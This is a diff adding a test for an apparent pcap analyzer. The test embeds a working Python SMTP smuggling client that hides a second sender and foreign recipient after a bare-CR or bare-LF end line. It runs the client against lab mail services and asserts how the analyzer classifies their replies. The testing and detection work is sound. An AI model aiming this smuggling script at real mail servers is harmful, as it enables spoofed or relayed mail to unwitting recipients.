@@ -361,3 +361,62 @@ def test_bare_lf_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, t
     assert (services[V.EXACT_END_PORT]["message_end"], services[V.EXACT_END_PORT]["severity"]) == ("exact", "info")
     anomalies = document["summary"]["dissector_anomalies"]
     assert (anomalies.get("lax_end_taken"), anomalies.get("lax_end_in_message")) == (1, 1), anomalies
+
+
+# The same smuggling with a bare CR ("\r.\r", Cisco Secure Email's end line): the smuggled lines end at the exact end,
+# or ("bare-lf") at "\n.\n"; then two NOOPs and QUIT once the message is answered.
+SMUGGLER_CR = r"""
+import socket, sys, time
+host, port, source, local_rcpt, foreign_rcpt, ending = sys.argv[1], int(sys.argv[2]), *sys.argv[3:7]
+s = socket.create_connection((host, port), timeout=20, source_address=(source, 0))
+got = b""
+def wait_for(text, deadline=20.0):
+    global got
+    end = time.time() + deadline
+    while text not in got and time.time() < end:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        got += chunk
+wait_for(b"220 ")
+s.sendall(b"EHLO smuggler.example\r\n"); wait_for(b"250 ")
+s.sendall(b"MAIL FROM:<a@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n" % local_rcpt.encode()); wait_for(b"354 ")
+smuggled = b"Subject: first\r\n\r\nhello\r.\rMAIL FROM:<b@outside.example>\r\nRCPT TO:<%s>\r\n" % foreign_rcpt.encode()
+if ending == "exact":
+    s.sendall(smuggled + b"DATA\r\nSubject: smuggled\r\n\r\nsmuggled\r\n.\r\n")
+else:
+    s.sendall(smuggled + b"\n.\n")
+wait_for(b"queued as", 10); time.sleep(1.0)
+s.sendall(b"NOOP\r\nNOOP\r\nQUIT\r\n"); wait_for(b"221 ", 5)
+sys.stdout.write(got.decode("latin-1"))
+"""
+
+
+def test_bare_cr_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, tmp_path: Path) -> None:
+    """Postfix 3.7 reads lines to their LF, whatever ``smtpd_forbid_bare_newline`` says: ``hello\\r.\\r`` is message
+    text to it (a server that cleans bare CRs into CR LF, as Cisco Secure Email does by default, would end the
+    message there). The smuggled foreign recipient after it is never accepted, and no relay is read from it
+    (``lax_end_in_message``, ``message_end`` ``exact``). When the smuggled lines end at ``\\n.\\n``, the service that
+    takes bare LFs ends the message there: no relay either, and that end line is told as taken (``message_end``
+    ``lax``)."""
+    pcap = tmp_path / "smuggling-cr.pcap"
+    runs = ((V.RELAYING_PORT, "exact"), (V.EXACT_END_PORT, "exact"), (V.RELAYING_PORT, "bare-lf"))
+    with verdicts_lab.recording(pcap, "tcp"):
+        smuggler = [sys.executable, "-c", SMUGGLER_CR, L.SRV_IP]
+        addresses = [V.EXTERNAL_CLIENTS[0], L.MAIL_TO, V.FOREIGN_RCPT]
+        got = [verdicts_lab.client([*smuggler, str(port), *addresses, ending]).stdout.decode() for port, ending in runs]
+    for text in got:  # one message each, its smuggled RCPT never answered as a command
+        text = text.replace("\r", "")
+        assert text.count("queued as") == 1 and text.count("250 2.1.5") == 1 and "221 " in text, text
+
+    out = tmp_path / "smuggling-cr.json"
+    argv = [*LEAKSCOPE, "analyze", "--format", "json", "-o", str(out), "--trusted-net", f"{V.TRUSTED_CLIENT}/32"]
+    done = subprocess.run([*argv, str(pcap)], capture_output=True, timeout=ANALYZE_TIMEOUT, check=False)
+    assert done.returncode == 0, done.stderr.decode()
+    document = json.loads(out.read_text())
+    assert of(document["findings"], "open-relay") == []
+    services = {int(f["server"].rpartition(":")[2]): f for f in of(document["findings"], "mail-service")}
+    assert (services[V.RELAYING_PORT]["message_end"], services[V.RELAYING_PORT]["severity"]) == ("lax", "low")
+    assert (services[V.EXACT_END_PORT]["message_end"], services[V.EXACT_END_PORT]["severity"]) == ("exact", "info")
+    anomalies = document["summary"]["dissector_anomalies"]
+    assert (anomalies.get("lax_end_taken"), anomalies.get("lax_end_in_message")) == (1, 3), anomalies
